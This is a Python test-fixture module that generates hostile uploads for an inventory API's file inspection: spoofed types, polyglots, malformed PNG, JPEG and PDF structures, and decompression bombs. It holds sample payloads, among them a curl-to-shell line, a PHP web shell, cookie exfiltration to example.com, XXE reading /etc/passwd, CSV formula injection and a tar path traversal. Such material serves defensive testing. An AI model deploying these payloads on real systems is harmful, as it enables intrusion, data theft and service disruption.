"""Files that nobody should be able to upload: not what they are said to be, more than that, or dear to read."""

import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache, partial
from itertools import permutations

import magic

from inventory_api.attachments.content import Content
from inventory_api.attachments.inspection import inspect
from inventory_api.errors import ContentMismatch
from tests.support.files import JPEG, PDF, PNG, chunk, good_file, good_files, picture, saved, segment

HEAD_BYTES = 8192
EXTENSIONS = {PNG: "png", JPEG: "jpg", PDF: "pdf"}
MEBIBYTE = 1024 * 1024
LARGE = 16 * MEBIBYTE


@dataclass(frozen=True)
class HostileFile:
    """As a client would send it; what is large is made when it is asked for."""

    filename: str
    media_type: str
    build: Callable[[], bytes]


@dataclass(frozen=True)
class Bytes:
    """What is in memory, as a content, which counts what is read of it."""

    data: bytes
    reads: list[tuple[int, int]]

    @property
    def size(self) -> int:
        return len(self.data)

    def read(self, start: int, length: int) -> bytes:
        self.reads.append((start, length))
        return self.data[start : start + length]


def is_accepted(media_type: str, data: bytes) -> bool:
    """As an upload is: what libmagic says of its head, and what the inspection says of all."""
    return magic.from_buffer(data[:HEAD_BYTES], mime=True) == media_type and is_inspected(media_type, Bytes(data, []))


def is_inspected(media_type: str, content: Content) -> bool:
    """Whether the inspection alone accepts it."""
    try:
        inspect(media_type, content)
    except ContentMismatch:
        return False
    return True


@cache
def hostile_files() -> Mapping[str, HostileFile]:
    """All of them."""
    return _spoofed() | _damaged() | _polyglots() | _of(PNG, _pngs()) | _of(JPEG, _jpegs()) | _of(PDF, _pdfs())


def _of(media_type: str, builders: Mapping[str, Callable[[], bytes]]) -> dict[str, HostileFile]:
    extension = EXTENSIONS[media_type]
    return {
        f"{extension}: {name}": HostileFile(f"{name.replace(' ', '-')}.{extension}", media_type, build)
        for name, build in builders.items()
    }


def _always(data: bytes) -> Callable[[], bytes]:
    return lambda: data


# Other types.

OTHERS: dict[str, bytes] = {
    "html": b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x01D\x00;",
    "gif with script": b"GIF89a/*\x00\x00\x00\x00\x00*/=alert(1)//;<script>alert(1)</script>",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + bytes(46) + b"\x40\x00\x00\x00PE\x00\x00L\x01" + bytes(99),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(99),
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(99),
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(99),
    "wasm": b"\x00asm\x01\x00\x00\x00" + bytes(32),
    "bash": b"#!/bin/bash\ncurl http://example.com/x | sh\n",
    "python": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
    "php": b"<?php system($_GET['c']); ?>",
    "javascript": b"'use strict'; fetch('//example.com/' + document.cookie)",
    "json": b'{"png": true}',
    "csv": b"=cmd|' /C calc'!A0,1\n",
    "text": b"only words\n",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(32),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32),
    "bmp": saved(picture(), "BMP"),
    "tiff": saved(picture(), "TIFF"),
    "webp": saved(picture(), "WEBP"),
    "ico": saved(picture(), "ICO"),
    "jpeg 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n\x00\x00\x00\x14ftypjp2 " + bytes(32),
    "mp4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08mdat",
    "mp3": b"ID3\x03\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x64" + bytes(99),
    "rtf": b"{\\rtf1\\ansi {\\object\\objocx}}",
    "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "sqlite": b"SQLite format 3\x00" + bytes(99),
    "mng": b"\x8aMNG\r\n\x1a\n" + bytes(40),
    "font": b"\x00\x01\x00\x00\x00\x0c\x00\x80" + bytes(99),
    "apple's own PNG": b"\x89PNG\r\n\x1a\n" + chunk(b"CgBI", b"\x50\x00\x20\x02") + chunk(b"IEND"),
    "nothing": b"",
    "one byte": b"\x89",
    "ten bytes": b"0123456789",
    "NULs": bytes(4096),
    "FFs": b"\xff" * 4096,
}  # fmt: skip


def _by_its_length(length: bytes, script: bytes) -> bytes:
    """A JPEG that is JavaScript as well."""
    content = script.ljust(int.from_bytes(length) - 2, b"x")
    return jpeg(segment(0xFE, content), before_end=segment(0xFE, b"*/"))


def archive(*names: str, comment: bytes = b"") -> bytes:
    """A ZIP one."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for name in names:
            made.writestr(name, b"content of " + name.encode())
        made.comment = comment
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as made:
        made.addfile(tarfile.TarInfo("../../etc/cron.d/x"))
    return buffer.getvalue()


def _spoofed() -> dict[str, HostileFile]:
    """Each other type, and each of ours, said to be each of ours; and what has only the right start."""
    others = OTHERS | {
        "zip": archive("a.txt"),
        "empty zip": archive(),
        "docx": archive("[Content_Types].xml", "_rels/.rels", "word/document.xml"),
        "jar": archive("META-INF/MANIFEST.MF", "A.class"),
        "tar": _tar(),
    }
    made = {
        f"{name} as {extension}": HostileFile(f"{name}.{extension}", media_type, _always(data))
        for media_type, extension in EXTENSIONS.items()
        for name, data in others.items()
    }
    for (real, real_extension), (said, extension) in permutations(EXTENSIONS.items(), 2):
        made[f"{real_extension} as {extension}"] = HostileFile(f"a.{extension}", said, partial(good_file, real))
    noise = random.Random(7)  # noqa: S311
    starts = {PNG: b"\x89PNG\r\n\x1a\n", JPEG: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", PDF: b"%PDF-1.7\n"}
    for media_type, start in starts.items():
        random_bytes = start + noise.randbytes(5000)
        made |= _of(
            media_type,
            {
                "random bytes with a right start": _always(random_bytes),
                "only a start": _always(start),
                "script with a right start": _always(start + OTHERS["html"]),
            },
        )
    made["an unknown type"] = HostileFile("a.gif", "image/gif", lambda: OTHERS["gif"])
    return made


def _damaged() -> dict[str, HostileFile]:
    """Cut anywhere, and with something behind or before."""
    behind = {
        "one byte": b"x", "many NULs": bytes(70_000), "a script": OTHERS["html"],
        "php": OTHERS["php"], "an mp4": OTHERS["mp4"], "a zip": archive("a.txt"),
    }  # fmt: skip
    # Behind a PDF it is what some programs fill it up with.
    white_space = {"a NUL": b"\0", "NULs": bytes(600), "spaces": b" " * 99}
    made: dict[str, HostileFile] = {}
    for media_type in EXTENSIONS:
        good = good_file(media_type)
        builders: dict[str, Callable[[], bytes]] = {
            f"cut at {part} of 13": _always(good[: len(good) * part // 13]) for part in range(1, 13)
        }
        # What is cut of a PDF's last line may be its line end.
        builders |= {f"cut by {count}": _always(good.rstrip(b"\r\n")[:-count]) for count in (1, 2, 4, 5, 12)}
        more = behind if media_type == PDF else behind | white_space
        builders |= {f"{name} behind": _always(good + data) for name, data in more.items()}
        builders |= {
            f"{name} before": _always(data + good)
            for name, data in {
                "a line end": b"\n",
                "html": OTHERS["html"],
                "a NUL": b"\0",
                "a BOM": b"\xef\xbb\xbf",
            }.items()
        }
        builders["another image behind"] = _always(good + saved(picture(), "PNG"))
        made |= _of(media_type, builders)
    made |= _of(PNG, {"itself behind": lambda: good_file(PNG) * 2, "a line end behind": lambda: good_file(PNG) + b"\n"})
    made |= _of(
        JPEG, {"itself behind": lambda: good_file(JPEG) * 2, "a line end behind": lambda: good_file(JPEG) + b"\r\n"}
    )
    return made | _of(PDF, {"html page behind": lambda: good_file(PDF) + OTHERS["html"] * 100})


# Two types at once.


def _polyglots() -> dict[str, HostileFile]:
    jar = archive("META-INF/MANIFEST.MF", "A.class")
    # Its last member of the structure holds it, and the comment that it announces reaches over the end.
    spanning = {
        PNG: lambda: png(chunk(b"IDAT", PIXELS), chunk(b"prVt", archive("a.txt", comment=b"x" * 16)[:-16])),
        JPEG: lambda: jpeg(before_end=segment(0xFE, archive("a.txt", comment=b"xx")[:-2])),
        PDF: lambda: pdf(b"%" + archive("a.txt", comment=b"x" * len(PDF_END))[: -len(PDF_END)] + b"\n"),
    }
    # It does not reach there: what opens a ZIP leaves out what is behind it.
    within = {
        PNG: lambda: png(chunk(b"IDAT", PIXELS), chunk(b"prVt", archive("a.txt"))),
        JPEG: lambda: jpeg(before_end=segment(0xFE, jar)),
        PDF: lambda: pdf(b"%" + archive("a.txt") + b"\n"),
    }
    made: dict[str, HostileFile] = {}
    for media_type in EXTENSIONS:
        made |= _of(media_type, {"a zip over its end": spanning[media_type], "a zip within": within[media_type]})
    header, pixels = chunk(b"IHDR", HEADER), chunk(b"IDAT", PIXELS)
    made |= _of(
        PNG,
        {
            "a zip of offsets": lambda: png(pixels, chunk(b"prVt", _of_offsets(len(SIGNATURE + header + pixels) + 8))),
            "a zip64": lambda: png(pixels, chunk(b"prVt", b"PK\x06\x07" + bytes(16) + b"PK\x05\x06" + b"\xff" * 18)),
            "an empty zip over its end": lambda: png(pixels, chunk(b"prVt", archive(comment=b"x" * 16)[:-16])),
            "many end records": lambda: png(pixels, chunk(b"prVt", (b"PK\x05\x06" + b"\x01" * 18) * 2000)),
            "a zip near the end": lambda: png(pixels, chunk(b"prVt", archive("a.txt") + bytes(65_000))),
            "a zip less near the end": lambda: png(pixels, chunk(b"prVt", archive("a.txt") + bytes(73_000))),
            "a PDF within": lambda: png(chunk(b"prVt", b"%PDF-1.4\n" + pdf()), pixels),
            "a script in a text": lambda: png(chunk(b"tEXt", b"Comment\0<SCRIPT>alert(1)</SCRIPT>"), pixels),
            "php in a text": lambda: png(chunk(b"tEXt", b"Comment\0<?php system($_GET[0]);"), pixels),
        },
    )
    return made | _of(
        JPEG,
        {
            "a script by its length": lambda: jpeg(
                segment(0xE0, (b"JFIF\0\x01\x01\x01\0\x48\0\x48\0\0" + bytes(0x2F2A))[: 0x2F2A - 2]),
                before_end=segment(0xFE, b"*/=alert(1);/*"),
            ),
            **{
                f"a script by the length {length!r}": partial(_by_its_length, length, script)
                for length, script in {
                    b"//": b"\nalert(1)/*",
                    b'="': b'";alert(1)/*',
                    b"='": b"';alert(1)/*",
                    b"=`": b"`;alert(1)/*",
                    b"=1": b";alert(1)/*",
                    b"\n=": b"1;alert(1)/*",
                    b"\r=": b"1;alert(1)/*",
                    b" =": b"alert(1)/*",
                    b"\t=": b"Exit=1/*",
                    b",(": b"JFIF=1)/*",
                }.items()
            },
            "a PDF within": lambda: jpeg(segment(0xFE, pdf())),
            "php in a comment": lambda: jpeg(segment(0xFE, b"<?php system($_GET[0]); __halt_compiler();")),
            "html in a comment": lambda: jpeg(segment(0xFE, OTHERS["html"])),
            **{
                f"{word.decode()} in a comment": partial(jpeg, segment(0xFE, b"a " + word))
                for word in (b"<html", b"<!DOCTYPE", b"<svg", b"<iframe", b"<body", b"<script", b"%!PS-Adobe", b"%PDF-")
            },
            "svg in a comment": lambda: jpeg(segment(0xE1, OTHERS["svg"])),
        },
    )


def _of_offsets(start: int) -> bytes:
    """An archive at that place of a file, with bytes between its directory and its end record."""
    made = archive("a.txt")
    end = made.rindex(b"PK\x05\x06")
    directory_start = made.index(b"PK\x01\x02")
    return made[:end] + bytes(7) + made[end : end + 16] + struct.pack("<I", start + directory_start) + made[end + 20 :]


# PNG. Each differs from one that is accepted in what its name says.

SIGNATURE = b"\x89PNG\r\n\x1a\n"


def ihdr(
    width: int = 4, height: int = 4, depth: int = 8, colour: int = 2, compression: int = 0, filtering: int = 0,
    interlacing: int = 0,
) -> bytes:  # fmt: skip
    """The data of a header."""
    return struct.pack(">IIBBBBB", width, height, depth, colour, compression, filtering, interlacing)


HEADER = ihdr()
PIXELS = zlib.compress((b"\0" + b"abc" * 4) * 4)


def png(*chunks: bytes, header: bytes = HEADER, end: bytes = chunk(b"IEND")) -> bytes:
    """With these between header and end; the pixels, if there are none."""
    return SIGNATURE + chunk(b"IHDR", header) + b"".join(chunks or [chunk(b"IDAT", PIXELS)]) + end


def _pngs() -> dict[str, Callable[[], bytes]]:
    pixels, end = chunk(b"IDAT", PIXELS), chunk(b"IEND")
    palette = chunk(b"PLTE", b"abc" * 4)
    indexed, one_bit = ihdr(colour=3), ihdr(depth=1, colour=3)
    zeros = zlib.compress(bytes(9 * MEBIBYTE), 9)
    eight = zlib.compress(bytes(7 * MEBIBYTE), 9)
    illegal = {
        "of no columns": ihdr(width=0), "of no rows": ihdr(height=0), "of 100,000 by 100,000": ihdr(100_000, 100_000),
        "a pixel too large": ihdr(100_000_001, 1), "of 2**31 columns": ihdr(2**31, 0),
        "of 2**32 - 1": ihdr(2**32 - 1, 1),
        "of 3 bits": ihdr(depth=3),
        "gray of 3 bits": ihdr(depth=3, colour=0), "of 0 bits": ihdr(depth=0), "of 32 bits": ihdr(depth=32),
        "colour of 4 bits": ihdr(depth=4),
        "gray and alpha of 4 bits": ihdr(depth=4, colour=4), "colour and alpha of 1 bit": ihdr(depth=1, colour=6),
        "of kind 1": ihdr(colour=1), "of kind 5": ihdr(colour=5), "of kind 7": ihdr(colour=7),
        "compressed otherwise": ihdr(compression=1), "filtered otherwise": ihdr(filtering=64),
        "interlaced otherwise": ihdr(interlacing=2),
        "header too short": HEADER[:-1], "header too long": HEADER + b"\0", "header empty": b"",
    }  # fmt: skip
    made: dict[str, Callable[[], bytes]] = {name: partial(png, header=data) for name, data in illegal.items()}
    chunks: dict[str, tuple[bytes, ...]] = {
        "without pixels": (chunk(b"tEXt", b"a\0b"),),
        "with empty pixels": (chunk(b"IDAT"),),
        "header twice": (chunk(b"IHDR", HEADER), pixels),
        "header twice, at the end": (pixels, chunk(b"IHDR", HEADER)),
        "pixels apart": (chunk(b"IDAT", PIXELS[:9]), chunk(b"tEXt", b"a\0b"), chunk(b"IDAT", PIXELS[9:])),
        "palette behind pixels": (pixels, palette),
        "palette twice": (palette, palette, pixels),
        "palette of 4 bytes": (chunk(b"PLTE", b"abcd"), pixels),
        "palette of nothing": (chunk(b"PLTE"), pixels),
        "palette of 257": (chunk(b"PLTE", b"abc" * 257), pixels),
        "unknown critical chunk": (chunk(b"ABCD", b"x"), pixels),
        "type with a digit": (chunk(b"te1t", b"x"), pixels),
        "type of NULs": (chunk(bytes(4), b"x"), pixels),
        "type in Latin-1": (chunk(b"t\xe4xt", b"x"), pixels),
        "two ends": (pixels, end),
        "pixels behind the end": (end, pixels),
        "pixels that are no zlib": (chunk(b"IDAT", b"\xff" * len(PIXELS)),),
        "pixels of a large window": (chunk(b"IDAT", b"\x88\x1c" + PIXELS[2:]),),
        "pixels with a dictionary": (chunk(b"IDAT", b"\x78\xbb" + PIXELS[2:]),),
        "pixels of another method": (chunk(b"IDAT", b"\x77\x09" + PIXELS[2:]),),
        "pixels whose zlib has no check": (chunk(b"IDAT", b"\x78\x9d" + PIXELS[2:]),),
        "pixels that are gzip": (chunk(b"IDAT", b"\x1f\x8b" + PIXELS[2:]),),
        "text that inflates far": (chunk(b"zTXt", b"a\0\0" + zeros), pixels),
        "international text that inflates far": (chunk(b"iTXt", b"a\0\1\0de\0b\0" + zeros), pixels),
        "profile that inflates far": (chunk(b"iCCP", b"a\0\0" + zeros), pixels),
        "texts that inflate far together": (chunk(b"zTXt", b"a\0\0" + eight),) * 3 + (pixels,),
        "text and profiles that inflate far together": (
            chunk(b"zTXt", b"a\0\0" + eight), chunk(b"iTXt", b"a\0\1\0\0\0" + eight),
            chunk(b"iCCP", b"a\0\0" + eight), pixels,
        ),
        "text that is cut": (chunk(b"zTXt", b"a\0\0" + zeros[:99]), pixels),
        "text that is no zlib": (chunk(b"zTXt", b"a\0\0" + b"x" * 99), pixels),
        "text without anything": (chunk(b"zTXt"), pixels),
        "text of another method": (chunk(b"zTXt", b"a\0\1" + zlib.compress(b"a")), pixels),
        "international text of another method": (chunk(b"iTXt", b"a\0\1\1\0\0" + zlib.compress(b"a")), pixels),
        "profile of another method": (chunk(b"iCCP", b"a\0\1" + zlib.compress(b"a")), pixels),
        "text that is bombs in bombs": (chunk(b"iTXt", b"a\0\2\0\0\0" + zeros), pixels),
    }  # fmt: skip
    made |= {name: partial(png, *found) for name, found in chunks.items()}
    wrong = bytearray(png())
    wrong[-1] ^= 1
    return made | {
        "without a palette": lambda: png(header=indexed),
        "palette too large for a bit": lambda: png(palette, pixels, header=one_bit),
        "palette of 16 bits": lambda: png(palette, pixels, header=ihdr(depth=16, colour=3)),
        "palette of gray": lambda: png(palette, pixels, header=ihdr(colour=0)),
        "palette of gray and alpha": lambda: png(palette, pixels, header=ihdr(colour=4)),
        "pixels too few": lambda: png(header=ihdr(9000, 9000)),
        "pixels too few, in many chunks": lambda: png(*[chunk(b"IDAT", PIXELS)] * 9, header=ihdr(9000, 9000)),
        "pixels too few, interlaced": lambda: png(header=ihdr(9000, 9000, interlacing=1)),
        "pixels too few for 16 bits": lambda: png(
            chunk(b"IDAT", zlib.compress(bytes(3000 * 9001), 9)), header=ihdr(3000, 3000, 16, 6)
        ),
        "header not first": lambda: SIGNATURE + chunk(b"tEXt", b"a\0b") + png()[8:],
        "header of another name": lambda: SIGNATURE + chunk(b"iTXt", HEADER) + pixels + end,
        "too many pixels, all of them there": lambda: png(
            chunk(b"IDAT", zlib.compress(bytes(12_500_002), 9)), header=ihdr(100_000_001, 1, 1, 0)
        ),
        "pixels first": lambda: SIGNATURE + pixels + chunk(b"IHDR", HEADER) + end,
        "without an end": lambda: png(end=b""),
        "end not empty": lambda: png(end=chunk(b"IEND", b"x")),
        "end with a script": lambda: png(end=chunk(b"IEND", OTHERS["php"])),
        "checksum wrong at the end": lambda: bytes(wrong),
        "checksum wrong in the header": lambda: png()[:29] + bytes(4) + png()[33:],
        "checksum wrong in a text": lambda: png(chunk(b"tEXt", b"a\0b")[:-4] + bytes(4), pixels),
        "checksum wrong in the pixels": lambda: png(pixels[:-4] + bytes(4)),
        "checksum wrong in large pixels": lambda: png(
            chunk(b"IDAT", PIXELS + bytes(3 * MEBIBYTE))[:-5] + b"x" + bytes(4), header=HEADER
        ),
        "length of 2**32 - 1": lambda: png(b"\xff\xff\xff\xffIDAT" + PIXELS),
        "length behind the end": lambda: png(b"\0\1\0\0IDAT" + PIXELS),
        "length over the end": lambda: png(pixels, end=b"\0\0\0\x04IEND\xae\x42\x60\x82"),
        "signature of Unix": lambda: png().replace(b"\r\n\x1a\n", b"\n\x1a\n", 1),
        "signature without its high bit": lambda: b"\x09" + png()[1:],
        "a million chunks": lambda: png(chunk(b"teXt") * 1_000_000, pixels),
        "a million chunks of pixels": lambda: png(pixels, chunk(b"IDAT") * 1_000_000),
        "a chunk too many": lambda: png(chunk(b"teXt") * 32_767, pixels),
        "large, and cut at the end": lambda: png(chunk(b"IDAT", PIXELS + bytes(LARGE)))[:-12],
        "large texts": lambda: png(*[chunk(b"zTXt", b"a\0\0" + b"\0\0\0\xff\xff" * 1_600_000)] * 8, pixels),
        "text longer than what it may become": lambda: png(
            chunk(b"zTXt", b"a\0\0" + zlib.compress(b"a") + bytes(8 * MEBIBYTE)), pixels
        ),
        "texts that are long and become nothing": lambda: png(
            *[chunk(b"zTXt", b"a\0\0" + NOTHING_AT_LENGTH)] * 3, pixels
        ),
    }


# A zlib stream of nearly 2 MB that becomes nothing: blocks of deflate (RFC 1951, 3.2.6) that have only their end.
NOTHING_AT_LENGTH = b"\x78\xda" + bytes.fromhex("0208208000") * 400_000 + b"\x03\x00\x00\x00\x00\x01"

# JPEG.

TABLES = segment(0xDB, b"\0" + b"\1" * 64) + b"".join(
    segment(0xC4, bytes((table,)) + b"\1" + bytes(15) + b"\0") for table in (0x00, 0x10)
)
COMPONENT = b"\1\x11\0"
SCAN_OF_ONE = b"\1\1\0\0\x3f\0"
DATA = b"\x3f"


def sof(width: int = 8, height: int = 8, precision: int = 8, components: bytes = COMPONENT, kind: int = 0xC0) -> bytes:
    """A segment for a frame."""
    return segment(kind, struct.pack(">BHHB", precision, height, width, len(components) // 3) + components)


def sos(data: bytes = SCAN_OF_ONE, coded: bytes = DATA) -> bytes:
    """A segment for a scan, and what is coded."""
    return segment(0xDA, data) + coded


def jpeg(
    before: bytes = b"", *, tables: bytes = TABLES, frame: bytes | None = None, scans: bytes | None = None,
    before_end: bytes = b"", end: bytes = b"\xff\xd9",
) -> bytes:  # fmt: skip
    """A gray block of pixels, but for what is said."""
    frame = sof() if frame is None else frame
    return b"\xff\xd8" + before + tables + frame + (sos() if scans is None else scans) + before_end + end


def _jpegs() -> dict[str, Callable[[], bytes]]:
    kinds = {
        "lossless": 0xC3, "hierarchical": 0xC5, "progressive and hierarchical": 0xC6, "lossless and hierarchical": 0xC7,
        "of an extension": 0xC8, "arithmetic": 0xC9, "arithmetic and progressive": 0xCA,
        "arithmetic and lossless": 0xCB,
    }  # fmt: skip
    made: dict[str, Callable[[], bytes]] = {
        f"frame {name}": partial(jpeg, frame=sof(kind=kind)) for name, kind in kinds.items()
    }
    frames = {
        "of no columns": sof(width=0), "of no lines": sof(height=0), "of 65,500 by 65,500": sof(65_500, 65_500),
        "of 12 bits, baseline": sof(precision=12), "of 16 bits": sof(precision=16, kind=0xC1),
        "of 0 bits": sof(precision=0),
        "of 2 bits, progressive": sof(precision=2, kind=0xC2),
        "of no components": sof(components=b""), "of 5 components": sof(components=COMPONENT * 5),
        "of 255 components": sof(components=COMPONENT * 255), "sampled by 0": sof(components=b"\1\x01\0"),
        "sampled by 5": sof(components=b"\1\x15\0"), "of table 4": sof(components=b"\1\x11\4"),
        "frame empty": segment(0xC0), "frame too short": segment(0xC0, b"\x08\0\x08\0\x08\1\1\x11"),
        "frame too long": segment(0xC0, b"\x08\0\x08\0\x08\1\1\x11\0\0"), "frame twice": sof() * 2,
        "frames of two kinds": sof() + sof(kind=0xC2), "without a frame": b"",
        "pixels too few": sof(9000, 9000), "pixels too few, progressive": sof(9000, 9000, kind=0xC2),
        "pixels too few, of one line": sof(65_500, 8),
        "number of lines before the scan": sof(height=0) + segment(0xDC, b"\0\x08"),
    }  # fmt: skip
    made |= {name: partial(jpeg, frame=frame) for name, frame in frames.items()}
    scans = {
        "without a scan": b"", "scan empty": segment(0xDA) + DATA, "scan of no components": sos(b"\0\0\x3f\0"),
        "scan of 5 components": sos(b"\5" + b"\1\0" * 5 + b"\0\x3f\0"),
        "scan of another component": sos(b"\1\2\0\0\x3f\0"),
        "scan too short": sos(SCAN_OF_ONE[:-1]), "scan too long": sos(SCAN_OF_ONE + b"\0"),
        "scan of nothing": sos(coded=b""), "frame behind the scan": sos() + sof(),
        "number of lines behind the scan": sos() + segment(0xDC, b"\0\x08"),
        "a reserved marker in the data": sos(coded=b"\x3f\xff\x02\0\x02"),
        "TEM in the data": sos(coded=b"\x3f\xff\x01\x3f"),
        "a start in the data": sos(coded=b"\x3f\xff\xd8\x3f"), "an end in the data": sos(coded=b"\x3f\xff\xd9\x3f"),
        "another image in the data": sos(coded=DATA + jpeg()), "thousands of scans": sos() * 4000,
        "a scan too many": sos() * 101,
    }  # fmt: skip
    made |= {name: partial(jpeg, scans=found) for name, found in scans.items()}
    quantization, huffman = segment(0xDB, b"\0" + b"\1" * 64), segment(0xC4, b"\0\1" + bytes(15) + b"\0")
    before = {
        "bytes between segments": segment(0xFE, b"a") + b"\0", "a restart between segments": b"\xff\xd0",
        "a start twice": b"\xff\xd8", "a start with a length": segment(0xD8, b"a"),
        "a restart with a length": segment(0xD0, b"a"), "a marker of 0": segment(0, b"a"),
        "a stuffed byte between segments": b"\xff\0", "an extension": segment(0xF0, b"a"),
        "arithmetic conditions": segment(0xCC, b"\0\0"), "hierarchical progression": sof(kind=0xDE),
        "expansion": segment(0xDF, b"\x11"), "a reserved segment": segment(0xBF, b"a"), "length of 0": b"\xff\xfe\0\0",
        "length of 1": b"\xff\xfe\0\1", "length of 65,535": b"\xff\xfe\xff\xff", "an end at once": b"\xff\xd9",
    }  # fmt: skip
    made |= {name: partial(jpeg, found) for name, found in before.items()}
    return made | {
        "scan before the frame": lambda: jpeg(frame=b"", scans=sos() + sof()),
        "two scans, one before the frame": lambda: jpeg(sos()),
        "without tables": lambda: jpeg(tables=b""),
        "without quantization": lambda: jpeg(tables=huffman),
        "without Huffman's tables": lambda: jpeg(tables=quantization),
        "tables behind the scan": lambda: jpeg(tables=b"", before_end=TABLES),
        "without an end": lambda: jpeg(end=b""),
        "with half an end": lambda: jpeg(end=b"\xff"),
        "an end within a segment": lambda: jpeg(before_end=b"\xff\xfe\0\x09abc"),
        "start of another": lambda: b"MM" + jpeg()[2:],
        "too many pixels, all of them there": lambda: jpeg(frame=sof(10_001, 10_000), scans=sos(coded=DATA * 200_000)),
        "only start and end": lambda: b"\xff\xd8\xff\xd9",
        "only fill bytes": lambda: b"\xff\xd8" + b"\xff" * LARGE,
        "fill bytes without end behind the data": lambda: jpeg(end=b"\xff" * LARGE),
        "fill bytes and stuffing": lambda: jpeg(end=b"\xff\xff\xff\0" * (LARGE // 4)),
        "restarts without end": lambda: jpeg(end=b"\xff\xd0" * (LARGE // 2)),
        "stuffed bytes without end": lambda: jpeg(end=b"\xff\0" * (LARGE // 2)),
        "a million segments": lambda: jpeg(segment(0xFE) * 1_000_000),
        "a segment too many": lambda: jpeg(segment(0xFE) * 4091),
        "large segments, too many": lambda: jpeg(segment(0xFE, bytes(15_000)) * 4092),
        "large, and cut at the end": lambda: jpeg(end=bytes(LARGE)),
    }


# PDF.

PDF_BODY = (
    b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
)
PDF_TABLE = (
    b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \ntrailer\n<</Size 3/Root 1 0 R>>\n"
)
PDF_END = b"startxref\n103\n%%EOF\n"


def pdf(
    before_end: bytes = b"", *, place: bytes | None = None, end: bytes | None = None, table: bytes = PDF_TABLE
) -> bytes:
    """One without pages, but for what is said."""
    place = str(len(PDF_BODY)).encode() if place is None else place
    return PDF_BODY + table + before_end + (b"startxref\n" + place + b"\n%%EOF\n" if end is None else end)


def _pdfs() -> dict[str, Callable[[], bytes]]:
    places = {
        "nowhere": b"", "at 0": b"0", "in the header": b"3", "at -1": b"-1", "at -103": b"-103", "in words": b"here",
        "behind the end": b"99999", "at its own end": str(len(PDF_BODY + PDF_TABLE)).encode(),
        "at 2**64": b"18446744073709551616",
        "at a number of 900 digits": b"9" * 900, "at a hexadecimal number": b"0x67", "at a broken number": b"10.3",
        "one byte too far": str(len(PDF_BODY) + 1).encode(), "one byte too near": str(len(PDF_BODY) - 2).encode(),
        "at another object": b"9", "at an end of an object": str(PDF_BODY.index(b"endobj")).encode(),
        "at two numbers": b"103 103", "in digits of another script": "\u0661\u0660\u0663".encode(),
    }  # fmt: skip
    made: dict[str, Callable[[], bytes]] = {
        f"cross-reference {name}": partial(pdf, place=place) for name, place in places.items()
    }
    at = str(len(PDF_BODY)).encode()
    ends = {
        "without an end": b"", "without startxref": b"%%EOF\n", "without its place": b"startxref\n%%EOF\n",
        "without EOF": b"startxref\n" + at + b"\n", "with half an EOF": b"startxref\n" + at + b"\n%%EO",
        "with a script behind": PDF_END + b"<script>alert(1)</script>", "with a comment behind": PDF_END + b"% words\n",
        "with EOF twice": b"startxref\n" + at + b"\n%%EOF\n%%EOF\n",
        "with a word before EOF": b"startxref\n" + at + b"\nx\n%%EOF\n",
        "with nothing between": b"startxref" + at + b"%%EOF\n",
        "with a control character behind": PDF_END + b"\x1a",
        "with two ends, of which the last is none": PDF_END + b"startxref\nx\n%%EOF\n",
        "with an end far before": PDF_END + b" " * 2000,
        "with spaces between": b"startxref" + b" " * 900 + at + b"\n%%EOF\n",
        "with a large end": b"startxref\n" + at + b" " * LARGE + b"%%EOF\n",
        "with startxref without end": b"startxref\n" * 100_000,
    }  # fmt: skip
    made |= {name: partial(pdf, end=end) for name, end in ends.items()}
    stream = b"<</Type/XRef/W[1 2 1]/Size 3/Root 1 0 R/Length 0>>stream\n\nendstream\nendobj\n"
    tables = {
        "table empty": b"xref\n", "table of no numbers": b"xref\na b\n", "table spelt otherwise": PDF_TABLE.upper(),
        "stream of another type": b"3 0 obj\n" + stream.replace(b"XRef", b"Catalog"),
        "stream of a longer type": b"3 0 obj\n" + stream.replace(b"XRef", b"XReference"),
        "stream that is no dictionary": b"3 0 obj\n[/Type /XRef]\nendobj\n", "stream without an object": stream,
        "stream whose type is in its data": b"3 0 obj\n<</Length 11>>stream\n/Type /XRef\nendstream\nendobj\n",
        "stream of a large number": b"9" * 99 + b" 0 obj\n" + stream, "table of words": b"x" * 200_000,
    }  # fmt: skip
    made |= {f"cross-reference {name}": partial(pdf, table=table) for name, table in tables.items()}
    return made | {
        "only a header and an end": lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
        "header not at 0": lambda: b"\0" + pdf(),
